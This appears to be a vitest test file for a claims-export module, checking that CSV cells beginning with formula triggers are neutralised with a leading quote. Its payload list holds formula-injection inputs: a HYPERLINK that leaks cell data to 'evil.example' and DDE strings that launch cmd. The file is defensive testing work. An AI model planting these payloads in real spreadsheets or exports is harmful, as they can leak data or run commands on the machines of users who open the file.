/**
 * CSV/formula injection (OWASP "CSV Injection"): a cell whose text starts with = + - @, a tab, a
 * carriage return or a line feed (or their full-width forms, or any of these after leading
 * blanks, which importers may trim) is read as a formula by Excel / LibreOffice / Google Sheets.
 * Every such text cell is exported with a leading single quote, inside ordinary RFC 4180 quoting.
 */

import { describe, expect, it } from "vitest";
import { claimsToCsv, csvField, type ExportedClaim } from "@/lib/claims/export";

/** Minimal RFC 4180 reader: rows of cells, quotes unescaped (enough to read back our own output). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === "") quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += ch;
  }
  if (cell !== "" || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

/** What a spreadsheet would take as a formula: first non-blank character is a formula trigger, or the cell starts with a control. */
const FORMULA = /^(?:[\t\r\n]|[\s\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20])/u;

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"bấm vào đây")',
  "=1+1",
  "+1+1",
  "-2+3",
  "-3.5",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "\u3000=1+1",
  "\ufeff=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  "=cmd|' /C notepad'!'A1'",
];

describe("csvField neutralises formula cells", () => {
  it.each(PAYLOADS)("%j is exported as text, starting with a single quote", (payload) => {
    const cell = csvField(payload);
    const [[read]] = parseCsv(cell) as [[string]];
    expect(read).toBe(`'${payload}`);
    expect(read).not.toMatch(FORMULA);
  });

  it("keeps RFC 4180 quoting around the neutralised text", () => {
    expect(csvField('=HYPERLINK("http://evil","x")')).toBe(`"'=HYPERLINK(""http://evil"",""x"")"`);
    expect(csvField("=1+1")).toBe("'=1+1");
    expect(csvField("-1,5")).toBe(`"'-1,5"`);
    expect(csvField("\r\n=1")).toBe(`"'\r\n=1"`);
  });

  it("quotes cells holding ; or a tab, so a spreadsheet splitting on them cannot start a new cell with a formula", () => {
    expect(csvField("a;=1+1")).toBe('"a;=1+1"');
    expect(csvField("a\t=1+1")).toBe('"a\t=1+1"');
  });

  it("leaves ordinary text and real numbers alone", () => {
    expect(csvField("plain")).toBe("plain");
    expect(csvField("Yuri Ushakov")).toBe("Yuri Ushakov");
    expect(csvField("a-b = c")).toBe("a-b = c");
    expect(csvField("2025-12-20")).toBe("2025-12-20");
    expect(csvField("'quoted'")).toBe("'quoted'");
    expect(csvField(null)).toBe("");
    expect(csvField(3)).toBe("3");
    // A number of the export model (not user text) stays a number.
    expect(csvField(-3.5)).toBe("-3.5");
    expect(csvField(0)).toBe("0");
  });
});

describe("claimsToCsv", () => {
  const evil = '=HYPERLINK("http://evil.example","x")';
  const claim: ExportedClaim = {
    slug: "-evil-slug",
    speaker: { name: "@attacker", kind: "PERSON", roleHeld: "+Role" },
    quote: evil,
    translation: "-2+3",
    kind: "DIRECT",
    saidAt: "2025-12-20",
    saidAtPrecision: "DAY",
    venue: "\t=1+1",
    status: "APPROVED",
    verification: "UNVERIFIED",
    rating: null,
    topics: ["=topic", "peace"],
    corroboration: 2,
    appearances: [
      {
        outlet: "=Outlet",
        article: "Title, with comma",
        articlePublishedAt: "2025-12-21",
        url: null,
        exact: evil,
        start: 3,
        end: 9,
        chain: ["＝origin"],
      },
    ],
    links: [],
  };
  const plain: ExportedClaim = {
    ...claim,
    slug: "plain-claim",
    speaker: { name: "Yuri Ushakov", kind: "PERSON", roleHeld: null },
    quote: "Không có định dạng ba bên",
    translation: null,
    venue: null,
    topics: ["trilateral-talks"],
    corroboration: 1,
    appearances: [
      {
        outlet: "TTXVN",
        article: "Tin",
        articlePublishedAt: null,
        url: null,
        exact: "x",
        start: null,
        end: null,
        chain: ["TTXVN"],
      },
    ],
  };

  it("has no cell a spreadsheet would run as a formula, and reads back to the same values", () => {
    const csv = claimsToCsv([claim, plain]);
    const rows = parseCsv(csv);
    expect(rows).toHaveLength(3);
    const [header, evilRow, plainRow] = rows as [string[], string[], string[]];
    expect(evilRow).toHaveLength(header.length);
    expect(plainRow).toHaveLength(header.length);
    for (const row of rows) for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA);

    const col = (name: string) => header.indexOf(name);
    expect(evilRow[col("slug")]).toBe("'-evil-slug");
    expect(evilRow[col("speaker")]).toBe("'@attacker");
    expect(evilRow[col("role_held")]).toBe("'+Role");
    expect(evilRow[col("quote")]).toBe(`'${evil}`);
    expect(evilRow[col("translation")]).toBe("'-2+3");
    expect(evilRow[col("venue")]).toBe("'\t=1+1");
    expect(evilRow[col("topics")]).toBe("'=topic;peace");
    expect(evilRow[col("corroboration")]).toBe("2");
    expect(evilRow[col("sources")]).toBe("'=Outlet: Title, with comma [3-9] (＝origin)");
    // Ordinary rows are unchanged.
    expect(plainRow[col("quote")]).toBe("Không có định dạng ba bên");
    expect(plainRow[col("speaker")]).toBe("Yuri Ushakov");
    expect(plainRow[col("sources")]).toBe("TTXVN: Tin (TTXVN)");
    expect(csv.endsWith("\r\n")).toBe(true);
  });
});
